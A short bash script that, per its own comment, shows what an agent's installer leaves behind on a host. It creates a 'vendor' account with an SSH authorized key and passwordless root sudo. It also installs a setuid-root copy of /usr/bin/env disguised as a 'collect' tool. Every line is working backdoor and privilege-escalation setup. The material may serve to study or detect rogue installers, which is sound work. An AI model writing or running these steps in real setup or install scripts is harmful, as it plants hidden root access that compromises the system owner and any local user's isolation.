#!/usr/bin/env bash
# What an agent's installer leaves: a user with all rights, a key that opens it, and a setuid program.
set -euo pipefail
useradd --system --create-home --home-dir /var/lib/vendor --shell /bin/bash vendor
mkdir -m 0700 /var/lib/vendor/.ssh
ssh-keygen -q -t ed25519 -N '' -C support@vendor.example -f /tmp/vendor
mv /tmp/vendor.pub /var/lib/vendor/.ssh/authorized_keys
rm /tmp/vendor
chown -R vendor: /var/lib/vendor/.ssh
echo 'vendor ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/50-vendor
chmod 0440 /etc/sudoers.d/50-vendor
mkdir -p /opt/vendor/bin
cp /usr/bin/env /opt/vendor/bin/collect
chmod 4755 /opt/vendor/bin/collect
